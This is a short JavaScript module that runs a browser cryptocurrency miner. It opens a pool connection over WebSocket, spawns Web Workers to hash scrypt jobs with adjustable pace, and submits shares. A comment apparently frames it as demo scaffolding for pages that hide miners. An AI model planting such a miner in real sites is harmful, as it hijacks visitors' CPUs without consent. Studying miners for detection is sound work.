// A miner in plain JavaScript for pages that try to hide one: the page holds the socket, workers hash. Each page says how
// many, at which pace and when. `demoPage` (demo.js) counts the hashes.
import '/site/miner-core.js';

/**
 * Resolves once the pool has given the first job.
 * @param pace for `paced` of scrypt-hash.js; null for no rest
 * @param connection what else `demoMiner.connectPool` is told
 */
export async function openFleet({ pace = null, ...connection } = {}) {
  const workers = new Set();
  const pool = await demoMiner.connectPool({
    url: `ws://${location.host}/pool`,
    algo: 'scrypt/8192',
    ...connection,
    onJob: (job) => workers.forEach((worker) => worker.postMessage({ job })),
  });

  function hire(threads) {
    for (let index = 0; index < threads; index += 1) {
      const worker = demoPage.watch(new Worker('/site/scrypt-worker.js', { type: 'module' }));
      worker.addEventListener('message', ({ data: { share } }) => {
        if (share) pool.submit(share, share.nonce, share.result);
      });
      workers.add(worker);
      worker.postMessage({ job: pool.job(), pace, firstNonce: (Math.random() * 2 ** 31) | 0 });
    }
  }

  function dismiss() {
    for (const worker of workers) worker.terminate();
    workers.clear();
  }

  return { hire, dismiss };
}

export const halfOfTheCores = Math.max(1, navigator.hardwareConcurrency >> 1);
